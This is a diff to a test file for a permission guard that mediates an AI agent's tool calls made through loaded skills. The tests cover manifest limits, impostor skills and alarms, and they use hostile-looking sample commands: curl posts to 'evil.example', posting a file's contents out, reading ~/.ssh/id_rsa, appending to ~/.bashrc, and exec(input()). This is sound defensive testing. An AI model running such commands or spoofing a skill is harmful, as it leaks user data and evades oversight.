@@ -57,10 +57,10 @@ def test_a_skill_may_do_what_its_manifest_holds_and_no_more(agent):
     agent.skill("poster", permissions=[API])
     assert agent.loads("poster").outcome is Outcome.PASS
     allowed = agent.runs("curl -d x=1 https://post.example.com/")
-    assert "needs a person's word" in allowed.reason  # declared: what cannot be undone is asked about
-    denied = agent.runs("curl -d x=1 https://evil.example/")
-    assert denied.outcome is Outcome.DENY
-    assert not denied.approval
+    assert allowed.approval  # the workspace's defaults want it confirmed, whatever a manifest says
+    beyond = agent.runs("curl -d x=1 https://evil.example/")
+    assert beyond.approval
+    assert "`poster` wants to send data to `evil.example:443`, which its manifest does not grant" in beyond.reason
 
 
 def test_rights_of_two_skills_never_mix(agent):
@@ -69,8 +69,7 @@ def test_rights_of_two_skills_never_mix(agent):
     agent.loads("reader")
     agent.loads("poster")
     verdict = agent.runs("curl -d @/srv/data/x https://post.example.com/")
-    assert verdict.outcome is Outcome.DENY
-    assert not verdict.approval
+    assert "`poster` wants to read `/srv/data/x`, which its manifest does not grant" in verdict.reason
 
 
 def test_another_skill_with_the_name_of_a_loaded_one_has_none_of_its_rights(agent):
@@ -80,9 +79,7 @@ def test_another_skill_with_the_name_of_a_loaded_one_has_none_of_its_rights(agen
     impostor.mkdir(parents=True)
     (impostor / "SKILL.md").write_text("---\nname: poster\ndescription: it\n---\n")
     (impostor / "run.sh").write_text("curl -d x=1 https://post.example.com/\n")
-    denied = agent.runs(f"bash {impostor}/run.sh")
-    assert denied.outcome is Outcome.DENY
-    assert not denied.approval
+    assert "which its manifest does not grant" in agent.runs(f"bash {impostor}/run.sh").reason
 
 
 def test_a_skill_that_was_loaded_earlier_leads_to_a_question_only(agent):
@@ -93,7 +90,7 @@ def test_a_skill_that_was_loaded_earlier_leads_to_a_question_only(agent):
     agent.loads("poster")
     verdict = agent.runs("cat /srv/data/x")
     assert verdict.approval
-    assert "loaded last" in verdict.reason
+    assert "`poster` wants to read `/srv/data/x`, which its manifest does not grant" in verdict.reason
 
 
 def test_a_skill_that_another_one_sends_for_has_at_most_its_rights(agent):
@@ -101,8 +98,8 @@ def test_a_skill_that_another_one_sends_for_has_at_most_its_rights(agent):
     agent.skill("helper", permissions=[API])
     agent.loads("front")
     agent.loads("helper")
-    assert agent.runs("curl -d x=1 https://post.example.com/").outcome is Outcome.DENY
-    assert not agent.runs("curl -d x=1 https://post.example.com/").approval
+    reason = agent.runs("curl -d x=1 https://post.example.com/").reason
+    assert "`front` wants to send data to `post.example.com:443`, which its manifest does not grant" in reason
 
 
 def test_a_skill_that_the_user_names_acts_for_itself(agent):
@@ -112,14 +109,6 @@ def test_a_skill_that_the_user_names_acts_for_itself(agent):
     agent.loads("front")
     agent.loads("helper")
     assert agent.runs("curl -d x=1 https://post.example.com/").approval
-
-
-def test_what_the_user_asks_for_is_not_denied_because_a_skill_was_loaded(agent):
-    agent.skill("docs", permissions=[])
-    agent.loads("docs")
-    assert not agent.runs("git push origin main").approval
-    agent.says("now push the branch to origin")
-    assert agent.runs("git push origin main").approval
 
 
 def test_a_trusted_manifest_that_changed_is_refused(agent):
@@ -140,7 +129,7 @@ def test_a_manifest_that_nobody_trusted_is_asked_about_for_every_change(agent):
 def test_reading_skill_md_is_loading_it(agent):
     folder = agent.skill("poster", permissions=[API])
     assert agent.before("Read", file_path=str(folder / "SKILL.md")).outcome is Outcome.PASS
-    assert not agent.runs("curl -d x=1 https://evil.example/").approval
+    assert "`poster` wants to" in agent.runs("curl -d x=1 https://evil.example/").reason
 
 
 @pytest.mark.parametrize(
@@ -152,6 +141,8 @@ def test_reading_skill_md_is_loading_it(agent):
     ],
 )  # fmt: skip
 def test_what_would_undo_the_guard_is_denied_without_a_question(agent, command):
+    (agent.home / ".ssh").mkdir()
+    (agent.home / ".ssh" / "id_rsa").write_text("k")
     verdict = agent.runs(command.format(state=agent.state.folder))
     assert verdict.outcome is Outcome.DENY
     assert not verdict.approval
@@ -161,9 +152,13 @@ def test_an_unknown_tool_is_judged(agent):
     assert agent.before("Frobnicate", x=1).approval
 
 
-def test_what_is_not_understood_never_passes(agent):
-    assert agent.runs("python3 -c 'exec(input())'").outcome is Outcome.DENY
-    assert agent.runs("someunknownprogram --now").approval
+def test_what_is_not_understood_passes_without_a_skill_alone(tmp_path):
+    agent = Agent(tmp_path, careful=False)
+    commands = ("python3 -c 'exec(input())'", "someunknownprogram --now")
+    assert all(agent.runs(command).outcome is Outcome.PASS for command in commands)
+    agent.skill("poster", permissions=[API])
+    agent.loads("poster")
+    assert all(agent.runs(command).outcome is not Outcome.PASS for command in commands)
 
 
 def test_a_call_that_was_changed_after_it_was_let_through_is_an_alarm(agent):
@@ -181,7 +176,7 @@ def test_a_call_that_nobody_let_through_is_an_alarm(agent):
 def test_every_event_and_decision_is_in_the_log(agent):
     agent.says("hello")
     agent.really_runs("ls")
-    agent.runs("cat ~/.ssh/id_rsa")
+    agent.runs("echo x >> ~/.bashrc")
     kinds = [(entry.kind.value, entry.outcome) for entry in agent.records()]
     assert kinds == [
         ("envelope", None), ("envelope", None), ("decision", Ended.ADMIT), ("effect", Ended.EXECUTED),
@@ -191,6 +186,9 @@ def test_every_event_and_decision_is_in_the_log(agent):
 
 def test_a_secret_in_the_final_answer_holds_it(agent):
     token = "AKIA" + "IOSFODNN7" + "EXAMPLE"
+    assert agent.tell(Kind.STOP, text=f"Here it is: {token}").outcome is Outcome.PASS
+    agent.skill("poster", permissions=[API])
+    agent.loads("poster")
     assert agent.tell(Kind.STOP, text=f"Here it is: {token}").outcome is Outcome.DENY
     assert agent.tell(Kind.STOP, text="Done.").outcome is Outcome.PASS
 
@@ -200,7 +198,7 @@ def test_a_session_goes_on_after_a_restart(agent):
     agent.says("post the report")
     agent.loads("poster")
     agent.restart()
-    assert not agent.runs("curl -d x=1 https://evil.example/").approval
+    assert "`poster` wants to" in agent.runs("curl -d x=1 https://evil.example/").reason
     assert agent.engine.lives.all()[0].prompts == ["post the report"]
 
 
@@ -262,7 +260,9 @@ def test_a_rate_is_counted_on_by_a_daemon_that_begins_anew(agent):
     path = str(agent.home / "docs" / "a.txt")
     limits = {"rate_limit": {"calls": 2, "seconds": 3600}}
     entry = {"capability": "file.read", "scope": "~/docs/**", "effect": "allow", "constraints": limits}
-    add_grant(open_store(agent.state.database), "", entry, now=int(agent.time[0]), expires=None)
+    agent.skill("poster", permissions=[API])
+    agent.loads("poster")
+    add_grant(open_store(agent.state.database), "poster", entry, now=int(agent.time[0]), expires=None)
     found = []
     for _ in range(3):
         found.append(agent.before("Read", file_path=path).outcome)
